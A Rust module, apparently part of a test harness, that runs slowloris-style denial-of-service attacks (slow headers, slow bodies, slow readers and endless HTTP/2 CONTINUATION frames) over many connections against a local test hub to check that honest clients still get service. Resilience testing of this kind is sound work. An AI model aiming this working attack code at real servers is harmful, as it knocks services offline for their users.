//! Requests that arrive, or are read, a byte at a time.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::super::crowd::{Held, crowd};
use super::super::dial::{self, Door};
use super::super::field::{Field, Target};
use super::super::{Attack, everybody, frames};

/// Between two bytes.
const PAUSE: Duration = Duration::from_secs(1);

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "slow-headers",
        does: "strangers send the headers of requests to 10904 a line a second, without an end",
        bound: "1,500 connections",
        least: Duration::ZERO,
        honest: everybody,
        attack: slow_headers,
    },
    Attack {
        name: "slow-bodies",
        does: "strangers send bodies of requests to 10904 a byte a second",
        bound: "1,500 connections",
        least: Duration::ZERO,
        honest: everybody,
        attack: slow_bodies,
    },
    Attack {
        name: "slow-readers",
        does: "strangers ask 10904 for pages and read a byte a second",
        bound: "200 connections",
        least: Duration::ZERO,
        honest: everybody,
        attack: slow_readers,
    },
    Attack {
        name: "slow-frames",
        does: "HTTP/2 headers to 10901, 10903 and 10900 that go on a frame a second, without an end",
        bound: "300 connections",
        least: Duration::ZERO,
        honest: everybody,
        attack: slow_frames,
    },
];

/// Sends a beginning, and then the same again and again.
fn send_slowly(
    field: &Field,
    until: Instant,
    begin: &'static str,
    again: &'static str,
) -> Result<Held> {
    let door = Door::plain(field.hub_port(10904));
    dial::run(&field.stranger, || async move {
        crowd(1_500, until, move |visitor| {
            let door = door.clone();
            async move {
                let turn = visitor.turn().await?;
                let mut io = door.open().await?;
                drop(turn);
                visitor.opened();
                io.write_all(begin.as_bytes()).await?;
                let (mut read, mut write) = tokio::io::split(io);
                let sending = async {
                    loop {
                        sleep(PAUSE).await;
                        if write.write_all(again.as_bytes()).await.is_err() {
                            break;
                        }
                    }
                };
                tokio::select! {
                    () = sending => {}
                    () = dial::until_closed(&mut read) => {}
                }
                Ok(())
            }
        })
        .await
    })
}

fn slow_headers(field: &Field, until: Instant) -> Result<Held> {
    send_slowly(
        field,
        until,
        "GET /prom/paris/-/healthy HTTP/1.1\r\nHost: hub\r\n",
        "X-Siege: a\r\n",
    )
}

fn slow_bodies(field: &Field, until: Instant) -> Result<Held> {
    let begin = "POST /prom/paris/api/v1/query HTTP/1.1\r\nHost: hub\r\nContent-Length: 100000\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\n\r\nquery=";
    send_slowly(field, until, begin, "a")
}

fn slow_readers(field: &Field, until: Instant) -> Result<Held> {
    let at = field.hub_port(10904);
    dial::run(&field.stranger, || async move {
        crowd(200, until, move |visitor| async move {
            let turn = visitor.turn().await?;
            let mut tcp = dial::tcp(at).await?;
            drop(turn);
            visitor.opened();
            // Some 100 KiB.
            tcp.write_all(b"GET /prom/paris/metrics HTTP/1.1\r\nHost: hub\r\n\r\n").await?;
            while tcp.read_u8().await.is_ok() {
                sleep(PAUSE).await;
            }
            Ok(())
        })
        .await
    })
}

fn slow_frames(field: &Field, until: Instant) -> Result<Held> {
    let targets = field.http2_targets()?;
    dial::run(&field.stranger, || async move {
        crowd(300, until, move |visitor| {
            let Target { door, .. } = targets[visitor.number % targets.len()].clone();
            async move {
                let turn = visitor.turn().await?;
                let mut io = door.open().await?;
                drop(turn);
                visitor.opened();
                io.write_all(&[frames::preface(), frames::endless_headers(1)].concat()).await?;
                loop {
                    sleep(PAUSE).await;
                    io.write_all(&frames::continuation(1)).await?;
                    io.flush().await?;
                }
            }
        })
        .await
    })
}
